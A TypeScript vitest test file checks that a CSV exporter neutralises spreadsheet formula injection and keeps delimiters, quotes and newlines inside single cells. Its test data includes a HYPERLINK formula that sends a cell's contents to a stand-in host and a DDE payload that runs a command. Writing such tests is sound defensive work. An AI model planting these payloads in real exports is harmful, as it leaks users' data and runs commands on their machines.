// That a spreadsheet carries nothing out of what people typed, and reads back what was written.
import { expect, test } from 'vitest';
import { csvOf } from './csv.ts';

const hostile = [
  `=HYPERLINK("https://voorbeeld.test?"&A1;"klik")`,
  `=cmd|'/c calc'!A0`,
  '+31612345678',
  '-2+3+cmd|x',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  // Excel reads these as the same signs.
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
];

test.each(['dutch', 'iso'] as const)('%s: no cell begins a formula', (variant) => {
  for (const typed of hostile) {
    const [cell] = cellsOf(csvOf([[typed, 'volgende']], variant), variant);
    expect(cell).toBe(`'${typed}`);
  }
});

test.each(['dutch', 'iso'] as const)(
  '%s: what holds signs of the file stays one cell',
  (variant) => {
    const typed = ['a;b', 'c,d', 'zij zei "nee"', 'twee\nregels', '€ 10,- of 12;-', 'a, -b'];
    expect(cellsOf(csvOf([typed], variant), variant)).toEqual(typed);
  },
);

test.each(['dutch', 'iso'] as const)(
  'F7 %s: nor does one where the other sign, or a line, ends a cell',
  (variant) => {
    for (const typed of [
      'x;=1+cmd',
      'x,=1+1,y',
      'x; =1+1',
      'x\t@SUM(1)',
      'x\n=1+1',
      'x;-2+3',
      'x,＋1',
    ])
      for (const written of ['dutch', 'iso'] as const)
        for (const line of csvOf([['a', typed, 'b']], written).split(/\r?\n|\r/))
          for (const cell of line.split(variant === 'dutch' ? ';' : /[,\t]/))
            expect([typed, cell]).toEqual([
              typed,
              expect.not.stringMatching(/^\s*"?[=+\-@＝＋－＠]/),
            ]);
  },
);

test('only its first part says in what it is written', () => {
  expect(csvOf([['a']], 'dutch')).toBe('\u{feff}a\r\n');
  expect(csvOf([['a']], 'dutch', { isFirst: false })).toBe('a\r\n');
  expect(csvOf([['a', 'b']], 'iso')).toBe('a,b\r\n');
});

/** The cells of its only row, read as RFC 4180 says. */
function cellsOf(csv: string, variant: 'dutch' | 'iso'): string[] {
  const text = csv.replace(/^\u{feff}/u, '').replace(/\r\n$/, '');
  const sign = variant === 'dutch' ? ';' : ',';
  const cells = [''];
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const letter = text[at]!;
    if (letter === '"' && isQuoted && text[at + 1] === '"') {
      cells[cells.length - 1] += letter;
      at += 1;
    } else if (letter === '"') isQuoted = !isQuoted;
    else if (letter === sign && !isQuoted) cells.push('');
    else cells[cells.length - 1] += letter;
  }
  return cells;
}
